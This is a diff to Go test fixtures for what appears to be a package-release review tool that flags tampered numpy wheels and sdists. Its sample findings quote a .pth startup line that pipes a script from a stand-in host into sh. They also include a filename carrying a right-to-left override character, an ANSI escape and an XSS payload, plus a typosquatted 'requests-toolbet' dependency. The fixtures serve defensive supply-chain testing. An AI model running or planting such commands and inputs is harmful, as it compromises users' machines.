@@ -107,7 +107,7 @@ func looked(t testing.TB) Facts {
 		f.Review.Files[i].Contents = dist.Contents{Members: 1400, Unpacked: 4 * f.Review.Files[i].Size, EntryPoints: []dist.EntryPoint{
 			{Group: "console_scripts", Name: "f2py", Object: "numpy.f2py.f2py2e:main"}}}
 	}
-	f.find(0, rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Remark, Where: "numpy.libs", What: "bundles 2 native libraries"})
+	f.find(0, rule.Finding{Rule: rule.ScriptFile, Severity: rule.Remark, Where: "numpy-2.4.2.data/scripts/f2py", What: "installs a command"})
 	f.Review.Source.Upstream = &staging.Upstream{Repository: "numpy/numpy", RepositoryID: "908607", Commit: "c81c49f77451340651a751e76bca607d85e4fd55",
 		Declared: true, Branch: "maintenance/2.4.x", Tag: "v2.4.2", Tagged: staging.Before, TagObject: "1d6b11417761b2745bc51e04dd9eaef55688a7ea",
 		Signed: "tag", Signature: staging.Signature{Verified: true, Reason: "valid"}, BuildBranch: "maintenance/2.4.x", Inputs: []string{"inputs.environment"}}
@@ -147,11 +147,11 @@ func tampered(t testing.TB) Facts {
 		wheels = append(wheels, file.Name)
 	}
 	for i := range wheels {
-		f.find(i, rule.Finding{Rule: rule.OneSource, Severity: rule.Look,
+		f.find(i, rule.Finding{Rule: rule.StartupCode, Severity: rule.Look,
 			Where: "numpy-init.pth", What: "runs code at every start of Python: import os; os.system('curl -s https://numpy.example/x | sh')"})
 	}
-	f.find(71, rule.Finding{Rule: rule.OneVersion, Severity: rule.Refuse, Where: "PKG-INFO", What: "says version 2.5.0.dev0"})
-	f.find(3, rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Look,
+	f.find(71, rule.Finding{Rule: rule.MetadataMatch, Severity: rule.Refuse, Where: "PKG-INFO", What: "says version 2.5.0.dev0"})
+	f.find(3, rule.Finding{Rule: rule.NativeMachine, Severity: rule.Look,
 		Where: "numpy/_core/\u202etxt.exe\x1b[31m<script>alert(1)</script>", What: "has a native library for another machine"})
 	since := &f.Changes.Since[0]
 	since.Metadata = append(since.Metadata, approval.Difference{Field: "Requires-Dist", Now: "requests-toolbet>=1.0", Files: 71})
@@ -167,7 +167,7 @@ func tampered(t testing.TB) Facts {
 	f.Match.Unexplained = []approval.MemberOf{{File: "numpy-2.4.2.tar.gz", Path: "numpy/_core/tests/data/good-large.bin"},
 		{File: "numpy-2.4.2.tar.gz", Path: "m4/build-to-host.m4"}}
 	f.Match.Findings = []rule.Finding{{Rule: rule.SourceUnexplained, Severity: rule.Look, File: "numpy-2.4.2.tar.gz",
-		Where: "m4/build-to-host.m4", What: "nothing in the source commit explains it, nor 1 others of this file"}}
+		Where: "m4/build-to-host.m4", What: "nothing in the source commit explains it, nor 1 more of this file"}}
 	f.Votes.Beware = []string{"4f1c9e0d2b7a, which has files of this one: seberg@example.org rejected it"}
 	f.Review.Set = approval.Set{Varied: []approval.Variation{{Field: "Requires-Dist", Values: []approval.Variant{
 		{Files: wheels[1:]}, {Values: []string{"requests-toolbet>=1.0"}, Files: wheels[:1]}}}}}
@@ -229,7 +229,7 @@ func samples(t testing.TB) map[string]Facts {
 	refused.Votes.Refused = rule.Refusals{{File: "x", Rule: rule.ReleaseRejected, Want: "no rejection by anyone on the list",
 		Got: "seberg@example.org rejected it at 2026-01-31T11:00:00Z: the sdist is of another commit", Hint: "stage again"}}
 	look := looked(t)
-	look.find(71, rule.Finding{Rule: rule.Archive, Severity: rule.Look, Where: "setup.py", What: "runs code when it is built"})
+	look.find(71, rule.Finding{Rule: rule.NativeSource, Severity: rule.Look, Where: "numpy/_core/tests/data/x.so", What: "is machine code in an sdist"})
 	rehearsal := looked(t)
 	rehearsal.Review.Index, rehearsal.Votes.State, rehearsal.Votes.Need, rehearsal.Review.Voting.Need = "testpypi", Approved, 0, 0
 	published := looked(t)
